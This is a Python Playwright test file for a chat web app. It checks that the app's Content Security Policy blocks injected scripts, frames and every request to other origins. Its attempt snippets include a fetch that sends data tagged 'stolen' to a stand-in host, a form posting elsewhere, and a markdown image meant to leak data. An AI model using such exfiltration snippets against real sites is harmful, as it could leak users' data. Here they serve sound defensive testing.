"""The page loads nothing from elsewhere, and its policy would stop it if it tried."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from teamchat.testing import ADMIN

WITH_ALL_PARTS = True

Serve = Callable[..., Any]
Visit = Callable[..., Page]

REFUSED = """new Promise((tell) => {
        addEventListener("securitypolicyviolation", () => tell(true), { once: true });
        setTimeout(() => tell(false), 5000);
      })"""
# What a script that got in might try, and whether it got anything by it.
ATTEMPTS = {
    "an inline script": """() => {
      const script = document.createElement("script");
      try { script.textContent = "window.done = true"; } catch { return false; }
      document.body.append(script);
      return window.done === true;
    }""",
    "markup out of text": """() => {
      try { document.body.innerHTML = "<p id=made>"; } catch { return false; }
      return document.getElementById("made") !== null;
    }""",
    "a script made of text": """async () => {
      await new Promise((later) => setTimeout(later)); // until then the test's own evaluation may do it
      try { return new Function("return true")(); } catch { return false; }
    }""",
    "a handler in an attribute": """() => {
      const button = document.createElement("button");
      try { button.setAttribute("onclick", "window.done = true"); } catch { return false; }
      document.body.append(button);
      button.click();
      return window.done === true;
    }""",
    "a policy of its own": """() => {
      try { return Boolean(trustedTypes.createPolicy("mine", { createHTML: (text) => text })); }
      catch { return false; }
    }""",
    "a worker from elsewhere": """async () => {
      try { await navigator.serviceWorker.register("http://127.0.0.2:9/sw.js"); return true; }
      catch { return false; }
    }""",
    "a message to elsewhere": """async () => {
      const isRefused = REFUSED;
      fetch("http://127.0.0.2:9/?stolen", { mode: "no-cors" }).catch(() => {});
      return !(await isRefused);
    }""",
    "a form to elsewhere": """async () => {
      const isRefused = REFUSED;
      const form = document.createElement("form");
      form.action = "http://127.0.0.2:9/";
      document.body.append(form);
      form.submit();
      return !(await isRefused);
    }""",
    "an inline style": """() => {
      const one = document.createElement("p");
      one.setAttribute("style", "position: fixed");
      document.body.append(one);
      return getComputedStyle(one).position === "fixed";
    }""",
}


@pytest.mark.slow
@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_policy_stops(serve: Serve, browser: Browser, attempt: str) -> None:
    server = serve()
    context = browser.new_context()
    page = context.new_page()
    page.goto(server.base)
    expect(page.get_by_label("Email")).to_be_visible()
    assert page.evaluate(ATTEMPTS[attempt].replace("REFUSED", REFUSED)) is False
    context.close()


def test_the_page_can_not_be_framed(serve: Serve, visit: Visit) -> None:
    with serve().client() as client:
        assert "frame-ancestors 'none'" in client.get("/").headers["Content-Security-Policy"]


@pytest.mark.slow
def test_everything_works_with_the_network_closed_to_all_other_origins(serve: Serve, visit: Visit) -> None:
    server = serve()
    page = visit("about:blank")
    elsewhere: list[str] = []

    def closed(route: Route) -> None:
        if route.request.url.startswith((f"{server.base}/", "blob:", "data:")):
            return route.continue_()
        elsewhere.append(route.request.url)
        return route.abort()

    page.context.route("**/*", closed)
    page.goto(server.base)
    page.get_by_label("Email").fill(ADMIN)
    page.get_by_role("button", name="Sign in").click()
    field = page.get_by_role("textbox", name="Write to #General")
    field.fill("https://example.org/picture.png ![](https://example.org/leak.png) **hello**")
    field.press("Enter")
    log = page.get_by_role("log")
    expect(log.get_by_text("hello")).to_be_visible()
    page.get_by_role("button", name="Insert an emoji").click()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Settings", exact=True).click()
    for section in ("Notifications", "Signed in on", "Account", "Profile"):
        page.get_by_role("dialog").get_by_role("button", name=section).click()
    page.keyboard.press("Escape")
    page.locator("button.server").click()
    page.get_by_role("menuitem", name="Administration").click()
    for section in ("Channels", "Webhooks", "Server"):
        page.get_by_role("dialog").get_by_role("button", name=section).click()
    expect(page.get_by_label("Name of the server")).to_be_visible()
    page.keyboard.press("Escape")
    page.keyboard.press("Control+k")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    assert elsewhere == []
